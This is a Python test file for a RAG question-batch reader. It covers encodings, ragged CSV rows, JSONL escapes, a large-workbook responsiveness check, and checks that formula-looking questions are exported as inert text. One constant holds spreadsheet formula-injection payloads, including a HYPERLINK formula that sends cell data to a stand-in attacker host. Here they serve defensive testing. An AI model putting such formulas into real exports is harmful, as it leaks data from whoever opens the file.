"""Question files as Excel and other tools write them, and answer tables that are safe to open: cp1252 and
declared encodings, ragged CSV rows, formula-looking questions, and a big workbook parsed off the event loop."""

from __future__ import annotations

import csv
import io
import threading
import time

import httpx
import openpyxl
import pytest

from rag.batch import BatchRunner, read_batch
from rag.errors import RagError
from tests.batch.conftest import GROWTH, write_xlsx
from tests.batch.test_api import base_url, client  # noqa: F401 - the real server fixtures
from tests.batch.test_cli import rag_batch

CAFE = "How much will L’Oréal’s sales grow – in €bn?"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_cp1252_csv_from_excel_reads_as_written(tmp_path):
    path = tmp_path / "q.csv"
    nestle = "What is Nestlé’s operating margin in 2026?"
    path.write_bytes(f"id,question\n1,{nestle}\n2,{CAFE}\n".encode("cp1252"))
    assert [i.question for i in read_batch(path)] == [nestle, CAFE]


def test_encoding_option_is_used_and_a_mismatch_names_the_line(tmp_path):
    path = tmp_path / "q.csv"
    path.write_bytes(f"question\n{GROWTH}\n{CAFE}\n".encode("cp1252"))
    assert [i.question for i in read_batch(path, encoding="cp1252")][1] == CAFE
    with pytest.raises(RagError, match=r"q\.csv:3: not utf-8 text \(byte 0x92\)"):
        read_batch(path, encoding="utf-8")
    with pytest.raises(RagError, match="unknown encoding 'latin-9000'"):
        read_batch(path, encoding="latin-9000")


def test_cli_encoding_option_reaches_the_reader(tmp_path):
    path = tmp_path / "q.csv"
    path.write_bytes(f"question\n{CAFE}\n".encode("cp1252"))
    run = rag_batch(str(path), "--encoding", "utf-8", "--out", str(tmp_path / "a.jsonl"))
    _, stderr = run.communicate(timeout=60)
    assert run.returncode == 1 and f"{path}:2: not utf-8 text" in stderr


def test_a_csv_row_longer_than_its_header_is_refused_naming_the_line(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(f"id,question\n1,{GROWTH}\n2,What is revenue, in 2026?\n", encoding="utf-8")
    with pytest.raises(RagError, match=r"q\.csv:3: 3 cells but the header names 2 columns"):
        read_batch(path)


def test_trailing_empty_cells_are_not_ragged(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(f"id,question\n1,{GROWTH},,\n", encoding="utf-8")
    assert [i.question for i in read_batch(path)] == [GROWTH]


@pytest.fixture
def formula_answers(assistant, tmp_path):
    path = tmp_path / "q.txt"
    path.write_text("\n".join(FORMULAS) + "\n", encoding="utf-8")
    items = read_batch(path)

    def render(suffix: str):
        output = tmp_path / f"answers{suffix}"
        BatchRunner(assistant, output, answerer="extractive").run(items)
        return output
    return render


def test_formula_questions_are_inert_text_in_csv(formula_answers):
    with formula_answers(".csv").open(encoding="utf-8-sig", newline="") as handle:
        questions = [row["question"] for row in csv.DictReader(handle)]
    assert questions == ["'" + f for f in FORMULAS]


def test_formula_questions_are_strings_in_xlsx(formula_answers):
    sheet = openpyxl.load_workbook(formula_answers(".xlsx")).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}


def test_a_big_workbook_is_parsed_without_stalling_other_requests(client, tmp_path):  # noqa: F811
    # No 'question' column: the whole sheet is read, then refused, so nothing is left answering afterwards.
    # 60,000 rows take about 3 s to read here and 1.5 s on CI's faster machine: well past the 1 s floor below.
    book = write_xlsx(tmp_path / "big.xlsx", [["id", "query"]] + [[n, f"Question {n} about revenue?"]
                                                               for n in range(60_000)])
    result: dict = {}

    def upload() -> None:
        started = time.perf_counter()
        result["response"] = client.post("/v1/batch", files={"file": ("big.xlsx", book.read_bytes())})
        result["seconds"] = time.perf_counter() - started

    worker = threading.Thread(target=upload)
    worker.start()
    slowest = 0.0
    with httpx.Client(base_url=str(client.base_url), timeout=30) as other:
        while worker.is_alive():
            started = time.perf_counter()
            assert other.get("/healthz").status_code == 200
            slowest = max(slowest, time.perf_counter() - started)
            time.sleep(0.05)
    worker.join()
    assert result["response"].status_code == 400 and "no 'question' column" in result["response"].text
    assert result["seconds"] > 1.0, "the workbook must take a while to read for this test to mean anything"
    assert slowest < result["seconds"] / 2


@pytest.mark.parametrize("escape", ["\\u0000", "\\ud800"])
def test_jsonl_escapes_that_are_not_text_are_refused_naming_the_line(tmp_path, escape):
    path = tmp_path / "q.jsonl"
    path.write_text(f'{{"question": "{GROWTH}"}}\n{{"question": "growth{escape}?"}}\n', encoding="utf-8")
    with pytest.raises(RagError, match=r"q\.jsonl:2: a value holds NUL or an unpaired surrogate"):
        read_batch(path)


def test_an_escaped_emoji_is_text(tmp_path):
    path = tmp_path / "q.jsonl"
    path.write_text('{"question": "Growth \\ud83d\\ude80 in 2026?"}\n', encoding="utf-8")
    assert read_batch(path)[0].question == "Growth \U0001F680 in 2026?"


def test_a_bad_filter_is_refused_on_upload_not_row_by_row(client):  # noqa: F811
    response = client.post("/v1/batch", files={"file": ("q.txt", GROWTH.encode(), "text/plain")},
                           data={"filter": "colour=red"})
    assert response.status_code == 400 and "unknown filter 'colour'" in response.json()["error"]["message"]


# --llm is refused as the command line is parsed (a usage error: exit 2); a bad filter as the run starts (exit 1).
@pytest.mark.parametrize("option, named, code", [(("--filter", "colour=red"), "unknown filter 'colour'", 1),
                                                 (("--llm", "bogus"), "unknown answerer 'bogus'", 2)])
def test_cli_refuses_a_bad_option_before_answering(sample_index, tmp_path, option, named, code):
    path = tmp_path / "q.txt"
    path.write_text(GROWTH + "\n", encoding="utf-8")
    run = rag_batch(str(path), *option, "--out", str(tmp_path / "a.jsonl"), "--index", str(sample_index))
    _, stderr = run.communicate(timeout=120)
    assert run.returncode == code and named in stderr
    assert not (tmp_path / "a.jsonl").exists()


def test_downloaded_answers_hold_formula_questions_as_text(client):  # noqa: F811
    from tests.batch.test_api import wait_done

    started = client.post("/v1/batch", files={"file": ("q.txt", "\n".join(FORMULAS).encode(), "text/plain")},
                          data={"llm": "extractive"}).json()
    job = wait_done(client, started["id"])
    table = client.get(f"/v1/batch/{job['id']}/result", params={"format": "csv"}).content.decode("utf-8-sig")
    assert [row["question"] for row in csv.DictReader(io.StringIO(table))] == ["'" + f for f in FORMULAS]
    xlsx = client.get(f"/v1/batch/{job['id']}/result", params={"format": "xlsx"}).content
    cells = [row[1] for row in openpyxl.load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}
